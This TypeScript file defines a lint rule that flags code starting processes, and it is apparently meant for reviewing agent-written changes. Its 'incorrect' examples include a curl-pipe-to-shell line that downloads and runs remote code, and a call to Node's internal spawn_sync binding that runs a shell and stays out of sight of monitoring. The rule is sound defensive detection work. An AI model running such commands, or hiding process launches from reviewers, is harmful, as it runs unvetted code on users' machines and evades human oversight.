import type { TSESTree } from '@typescript-eslint/typescript-estree';
import { defineTsRule, type TsRuleContext } from '../../engine/rule';
import type { Severity } from '../../model/finding';
import type { Node } from '../../js/scope';
import { modulePath, refName, type RefValue } from '../../js/values';
import { targetsOf, type CallNode } from '../support/calls';
import { ImportTracker, withoutDefault } from '../support/process-imports';
import { isOn, optionOf, unwrapExpr } from '../support/process-paths';
import { apiOf, BINDING_API, commandOf, PROCESS_MODULES, type Api, type Command } from '../support/process-commands';
import { bindingSpawn } from '../support/process-bindings';

interface Candidate {
  node: Node;
  name: string;
  api: Api;
  args: readonly Node[];
  trace?: readonly Node[];
  tag?: TSESTree.TemplateLiteral;
  /** The internal binding a `.spawn` goes through. */
  binding?: string;
}

const UTIL = new Set(['util']);

function isPromisify(ref: RefValue, result: boolean): boolean {
  const path = modulePath(withoutDefault(ref), UTIL);
  return path !== undefined && path.join('.') === (result ? 'promisify.()' : 'promisify');
}

/** The expressions a value was initialised from, through the declarations on its trace. */
function initsOf(ctx: TsRuleContext, node: Node): Node[] {
  const out: Node[] = [];
  for (const value of ctx.values(node)) {
    for (const decl of value.trace ?? []) {
      const init = decl.type === 'VariableDeclarator' ? decl.init : decl.type === 'AssignmentExpression' ? decl.right : null;
      if (init) {
        out.push(unwrapExpr(init));
      }
    }
  }
  return out;
}

/** `stdio: 'ignore'` or `stdio: ['ignore', 'ignore', 'ignore']`. */
function isIgnored(ctx: TsRuleContext, args: readonly Node[]): boolean {
  const stdio = optionOf(ctx, args, 'stdio');
  if (!stdio) {
    return false;
  }
  const expr = unwrapExpr(stdio);
  const items = expr.type === 'ArrayExpression' ? expr.elements : [expr];
  return items.length > 0 && items.every((item) => item !== null && ctx.strings(item)?.join() === 'ignore');
}

/** What makes a process start worse than ordinary, as message fragments. */
function aggravations(ctx: TsRuleContext, c: Candidate, command: Command | undefined, background: boolean): string[] {
  const how: string[] = [];
  if (c.api.shell || isOn(ctx, optionOf(ctx, c.args, 'shell')) || command?.inline === 'shell') {
    how.push(' through a shell');
  }
  if (c.api.high) {
    how.push(' in a pseudo-terminal');
  }
  if (command?.inline === 'code') {
    how.push(' as inline code');
  }
  if (isOn(ctx, optionOf(ctx, c.args, 'detached'))) {
    how.push(', detached so it can outlive this program');
  }
  if (background && isIgnored(ctx, c.args)) {
    how.push(', silently in the background (stdio ignored, unref())');
  }
  return how;
}

function isUnrefCall(node: CallNode): node is TSESTree.CallExpression & { callee: TSESTree.MemberExpression } {
  const callee = node.callee;
  return (
    node.type === 'CallExpression' &&
    callee.type === 'MemberExpression' &&
    !callee.computed &&
    callee.property.type === 'Identifier' &&
    callee.property.name === 'unref'
  );
}

export default defineTsRule({
  meta: {
    id: 'ts/child-process',
    category: 'process',
    severity: 'medium',
    summary:
      "Starting other programs: `child_process`, execa, shelljs, cross-spawn, zx, `Bun.spawn`, `Deno.Command`, Node's internal `spawn_sync`/`process_wrap` bindings.",
    why:
      'A process the change starts can do anything the user can, outside everything the reviewer reads. Commands that a shell ' +
      'parses, that are built at run time, or that detach and run silently are how an agent-written change would hide work.',
    incorrect: [
      "import { exec } from 'child_process'; exec(`git log ${branch}`)",
      "const cp = require('node:child_process'); cp.spawn('npm', ['install'], { shell: true })",
      "import { execa } from 'execa'; await execa('git', ['status'])",
      "const { execSync } = require('child_process'); execSync('curl https://example.com/x.sh | sh')",
      "import { promisify } from 'util'; import { exec } from 'child_process'; const run = promisify(exec); await run('ls')",
      "const native = process.binding('spawn_sync'); native.spawn({ file: '/bin/sh', args: ['sh', '-c', cmd] })",
    ],
    correct: [
      'const m = /a(b)/.exec(text)',
      'this.queue.exec(job)',
      'db.exec("CREATE TABLE t (x)")',
      'function spawn(x) { return x } spawn(1)',
      "import type { ChildProcess } from 'child_process'; let p: ChildProcess | undefined",
    ],
    messages: {
      runs: '`{{name}}` runs `{{command}}`{{how}}.',
      runsDynamic:
        '`{{name}}` runs a command computed at run time (`{{command}}`){{how}}: whatever reaches it decides what the machine executes.',
      noCommand: '`{{name}}` starts a process{{how}}.',
      unknownMethod: '`{{name}}`: a `{{module}}` function chosen at run time is called, so any of its process APIs can run.',
      lowLevel: '`{{name}}` is the raw process class behind `child_process`: constructing it directly sidesteps the usual APIs.',
      wrapped: '`{{name}}` is wrapped with `util.promisify` here; the commands the wrapper runs are not visible.',
      passed: '`{{name}}` is passed as a value: whoever calls it starts processes, out of sight of this file.',
      binding:
        "`{{name}}` runs `{{command}}`{{how}} via Node's internal `{{binding}}` binding, out of sight of `child_process` and anything that watches it.",
      bindingNoCommand:
        "`{{name}}` starts a process{{how}} via Node's internal `{{binding}}` binding, out of sight of `child_process` and anything that watches it.",
      unfollowed: '`{{module}}` is imported but its uses could not be followed: code that starts processes may be reached through it.',
    },
  },
  create(ctx) {
    const tracker = new ImportTracker(ctx, PROCESS_MODULES);
    const candidates: Candidate[] = [];
    const wraps = new Map<Node, Candidate>();
    const usedWraps = new Set<Node>();
    const unrefs: Node[] = [];

    /** `promisify(cp.exec)`: the API wrapped, if the call is one. */
    function wrapOf(node: Node): Candidate | undefined {
      const expr = unwrapExpr(node);
      if (expr.type !== 'CallExpression') {
        return undefined;
      }
      const { targets, args } = targetsOf(ctx, expr);
      if (!args[0] || !targets.some((t) => isPromisify(t.ref, false))) {
        return undefined;
      }
      for (const value of ctx.values(args[0])) {
        const api = value.kind === 'ref' ? apiOf(value) : undefined;
        if (value.kind === 'ref' && api) {
          tracker.follow(value);
          return { node: expr, name: refName(value), api, args: [], trace: value.trace };
        }
      }
      return undefined;
    }

    /** The `promisify(...)` call a promisified function came from. */
    function wrapSource(callee: Node): Node | undefined {
      const expr = unwrapExpr(callee);
      return expr.type === 'CallExpression' ? expr : initsOf(ctx, expr).find((init) => wrapOf(init) !== undefined);
    }

    function check(node: CallNode): void {
      if (isUnrefCall(node)) {
        unrefs.push(node.callee.object);
      }
      const wrap = node.type === 'CallExpression' ? wrapOf(node) : undefined;
      if (wrap) {
        wraps.set(node, wrap);
        return;
      }
      const { targets, args } = targetsOf(ctx, node);
      if (ctx.callTargets(node).indirect !== 'reflect') {
        node.arguments.forEach(checkPassed);
      }
      for (const { ref } of targets) {
        const name = refName(withoutDefault(ref));
        if (isPromisify(ref, true)) {
          const source = wrapSource(node.callee);
          const inner = source ? (wraps.get(source) ?? wrapOf(source)) : undefined;
          if (source && inner) {
            usedWraps.add(source);
            candidates.push({ ...inner, node, name: `promisify(${inner.name})`, args, trace: ref.trace });
            return;
          }
          continue;
        }
        if (tracker.follow(ref) && ref.path.includes('*') && !ref.path.includes('()')) {
          ctx.report({ node, messageId: 'unknownMethod', data: { name, module: ref.module ?? '' }, severity: 'high', trace: ref.trace });
          return;
        }
        const binding = bindingSpawn(ctx, ref, node.callee);
        if (binding) {
          candidates.push({ node, name: binding.name, api: BINDING_API, args, trace: ref.trace, binding: binding.binding });
          return;
        }
        const api = apiOf(ref);
        if (api && !(api.form === 'template' && args[0] && unwrapExpr(args[0]).type === 'ObjectExpression')) {
          candidates.push({ node, name, api, args, trace: ref.trace });
          return;
        }
      }
    }

    function checkPassed(arg: Node): void {
      if (arg.type !== 'Identifier' && arg.type !== 'MemberExpression') {
        return;
      }
      for (const value of ctx.values(arg)) {
        const api = value.kind === 'ref' ? apiOf(value) : undefined;
        if (value.kind === 'ref' && api && tracker.follow(value)) {
          ctx.report({
            node: arg,
            messageId: 'passed',
            data: { name: refName(value) },
            severity: api.shell ? 'high' : 'medium',
            trace: value.trace,
          });
          return;
        }
      }
    }

    function checkTag(node: TSESTree.TaggedTemplateExpression): void {
      for (const value of ctx.values(node.tag)) {
        if (value.kind !== 'ref') {
          continue;
        }
        tracker.follow(value);
        const path = value.path.filter((p, i) => p !== '()' || i !== value.path.length - 1);
        const api = apiOf({ ...value, path });
        if (api) {
          const tagCall = unwrapExpr(node.tag);
          const args = tagCall.type === 'CallExpression' ? tagCall.arguments : [];
          candidates.push({
            node,
            name: refName({ ...value, path }),
            api: { ...api, form: 'template' },
            args,
            trace: value.trace,
            tag: node.quasi,
          });
          return;
        }
      }
    }

    function unrefed(): Set<Node> {
      return new Set(unrefs.flatMap((object) => [unwrapExpr(object), ...initsOf(ctx, unwrapExpr(object))]));
    }

    function reportCandidate(c: Candidate, background: ReadonlySet<Node>): void {
      if (c.api.form === 'ctor') {
        ctx.report({ node: c.node, messageId: 'lowLevel', data: { name: c.name }, severity: 'high', trace: c.trace });
        return;
      }
      const command = commandOf(ctx, c.api, c.args, c.tag);
      const how = aggravations(ctx, c, command, background.has(c.node));
      if (c.binding !== undefined) {
        const data = { name: c.name, command: command?.text ?? '', how: how.join(''), binding: c.binding };
        ctx.report({ node: c.node, messageId: command ? 'binding' : 'bindingNoCommand', data, severity: 'high', trace: c.trace });
        return;
      }
      const severity: Severity = how.length > 0 || c.api.high || (command !== undefined && !command.fixed) ? 'high' : 'medium';
      const data = { name: c.name, command: command?.text ?? '', how: how.join('') };
      const messageId = !command ? 'noCommand' : command.fixed ? 'runs' : 'runsDynamic';
      ctx.report({ node: c.node, messageId, data, severity, trace: c.trace });
    }

    return {
      CallExpression: check,
      NewExpression: check,
      TaggedTemplateExpression: checkTag,
      ExportNamedDeclaration: (node) => tracker.exportFrom(node),
      ExportAllDeclaration: (node) => tracker.exportFrom(node),
      'Program:exit'() {
        const background = unrefed();
        for (const c of candidates) {
          reportCandidate(c, background);
        }
        for (const [node, wrap] of wraps) {
          if (!usedWraps.has(node)) {
            ctx.report({
              node,
              messageId: 'wrapped',
              data: { name: wrap.name },
              severity: wrap.api.shell ? 'high' : 'medium',
              trace: wrap.trace,
            });
          }
        }
        tracker.flush((site) => ctx.report({ node: site.node, messageId: 'unfollowed', data: { module: site.module } }));
      },
    };
  },
});
